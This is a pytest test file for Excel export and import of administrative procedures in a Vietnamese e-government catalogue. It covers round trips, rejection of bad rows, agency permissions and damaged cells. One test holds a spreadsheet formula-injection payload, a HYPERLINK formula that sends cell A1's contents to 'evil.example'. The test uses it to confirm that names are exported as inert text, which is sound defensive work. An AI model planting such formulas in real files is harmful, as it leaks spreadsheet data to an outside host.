"""Export, edit and import again; an import with bad rows changes nothing and lists each row."""

from io import BytesIO

import pytest
from openpyxl import load_workbook

from egov.catalog.excel import ImportRejected, export_workbook, parse_workbook
from egov.catalog.models import Procedure
from egov.catalog.selectors import procedure_list_for_official, procedures_for_export
from egov.catalog.services import procedure_create, procedure_import
from egov.core.models import AuditEvent

pytestmark = pytest.mark.django_db


def _export(user):
    return load_workbook(BytesIO(export_workbook(procedures_for_export(procedure_list_for_official(user)))))


def _bytes(wb):
    buffer = BytesIO()
    wb.save(buffer)
    buffer.seek(0)
    return buffer


def test_round_trip_updates_and_creates(construction_leader, permit_input, clock):
    procedure_create(actor=construction_leader, data=permit_input, clock=clock)
    wb = _export(construction_leader)
    ws = wb["Thủ tục"]
    assert ws["A2"].value == "1.009994" and ws["I2"].value == "Một phần" and ws["K2"].value == "ngày làm việc"
    ws["J2"] = 10  # shorter duration
    ws.append(
        [
            "1.000777",
            "Cấp giấy phép di dời công trình",
            "Hoạt động xây dựng",
            "x",
            "",
            ws["F2"].value,
            "Sở Xây dựng",
            "Trung tâm Phục vụ hành chính công",
            "Toàn trình",
            20,
            "ngày",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
        ]
    )
    wb["Thành phần hồ sơ"].append(["1.000777", "Đơn đề nghị", 1, 0, "x", ""])
    counts = procedure_import(actor=construction_leader, rows=parse_workbook(_bytes(wb)), clock=clock)
    assert counts == {"created": 1, "updated": 1, "unchanged": 0}
    assert Procedure.objects.get(code="1.009994").duration_value == 10
    new = Procedure.objects.get(code="1.000777")
    assert (new.status, new.online_level, new.duration_unit) == ("draft", "full", "calendar_days")
    assert new.components.get().name == "Đơn đề nghị"


def test_bad_rows_change_nothing_and_are_listed(construction_leader, permit_input, clock):
    procedure_create(actor=construction_leader, data=permit_input, clock=clock)
    wb = _export(construction_leader)
    ws = wb["Thủ tục"]
    ws["J2"] = 10  # a good change that must not land
    ws.append(["1.000778", "", "Hoạt động xây dựng", "x", "", ws["F2"].value, "", "", "Toàn trình", "mười", "ngày"])
    ws.append(["1.009994", "Trùng mã", "Hoạt động xây dựng", "x", "", ws["F2"].value, "", "", "Một phần", 5, "ngày"])
    wb["Phí, lệ phí"].append(["9.999999", "Lệ phí", "Không có thủ tục", 1000, ""])
    events = AuditEvent.objects.count()
    with pytest.raises(ImportRejected) as exc:
        procedure_import(actor=construction_leader, rows=parse_workbook(_bytes(wb)), clock=clock)
    lines = [str(e) for e in exc.value.errors]
    assert any("dòng 3 (1.000778)" in line and "Thiếu tên thủ tục" in line and "Thời hạn" in line for line in lines)
    assert any("dòng 4 (1.009994)" in line and "trùng với dòng 2" in line for line in lines)
    assert any("Phí, lệ phí" in line and "9.999999" in line for line in lines)
    assert "chưa nhập thủ tục nào" in exc.value.message
    assert Procedure.objects.get(code="1.009994").duration_value == 15
    assert not Procedure.objects.filter(code="1.000778").exists()
    assert AuditEvent.objects.count() == events


def test_rows_of_another_agency_reject_the_whole_import(construction_leader, justice_leader, permit_input, clock):
    procedure_create(actor=construction_leader, data=permit_input, clock=clock)
    wb = _export(construction_leader)
    wb["Thủ tục"]["J2"] = 3
    with pytest.raises(ImportRejected) as exc:
        procedure_import(actor=justice_leader, rows=parse_workbook(_bytes(wb)), clock=clock)
    assert "không có quyền" in str(exc.value.errors[0])
    assert Procedure.objects.get(code="1.009994").duration_value == 15


def test_a_file_that_is_not_excel_is_refused_clearly():
    from egov.core.errors import DomainError

    with pytest.raises(DomainError) as exc:
        parse_workbook(BytesIO(b"%PDF-1.4 not a workbook"))
    assert "Excel" in exc.value.message


EVIL = '=HYPERLINK("http://evil.example/x?"&A1,"Bấm để xem")'


def test_a_name_written_like_a_formula_is_exported_as_text(
    client, construction_specialist, province_admin, permit_input, clock
):
    from dataclasses import replace

    procedure_create(actor=construction_specialist, data=replace(permit_input, name=EVIL), clock=clock)
    client.force_login(province_admin)
    cell = load_workbook(BytesIO(client.get("/quan-tri/thu-tuc/xuat-excel/").content))["Thủ tục"]["B2"]
    assert cell.data_type == "s" and cell.value == EVIL


def _damaged_import(owner_code: str, duration_xml: str) -> bytes:
    """A one-procedure workbook whose duration cell holds `duration_xml` as stored XML (a hand-edited file)."""
    import re
    import zipfile

    from openpyxl import Workbook

    from egov.catalog.excel import (
        COMPONENT_COLUMNS,
        COMPONENT_SHEET,
        FEE_COLUMNS,
        FEE_SHEET,
        PROCEDURE_COLUMNS,
        PROCEDURE_SHEET,
    )

    wb = Workbook()
    ws = wb.active
    ws.title = PROCEDURE_SHEET
    ws.append([h for h, _k in PROCEDURE_COLUMNS])
    row = ["1.000777", "Cấp phép", "Xây dựng", "x", "", owner_code, "Sở", "Một cửa", "Toàn trình", 15, "ngày"]
    ws.append(row + [""] * (len(PROCEDURE_COLUMNS) - len(row)))
    wb.create_sheet(FEE_SHEET).append([h for h, _k in FEE_COLUMNS])
    comps = wb.create_sheet(COMPONENT_SHEET)
    comps.append([h for h, _k in COMPONENT_COLUMNS])
    comps.append(["1.000777", "Đơn", 1, 0, "x", ""])
    clean, damaged = BytesIO(), BytesIO()
    wb.save(clean)
    with zipfile.ZipFile(BytesIO(clean.getvalue())) as src, zipfile.ZipFile(damaged, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'(<c r="J2"[^>]*><v>)15(</v>)', rb"\g<1>" + duration_xml.encode() + rb"\g<2>", data)
            dst.writestr(item, data)
    return damaged.getvalue()


@pytest.mark.parametrize("stored", ["abc", "1E999"])
def test_a_damaged_number_cell_is_explained_and_nothing_is_imported(client, construction_leader, construction, stored):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client.raise_request_exception = False
    client.force_login(construction_leader)
    upload = SimpleUploadedFile("danh-muc.xlsx", _damaged_import(construction.eid_code, stored))
    response = client.post("/quan-tri/thu-tuc/nhap-excel/", {"file": upload})
    assert response.status_code == 400 and not Procedure.objects.filter(code="1.000777").exists()
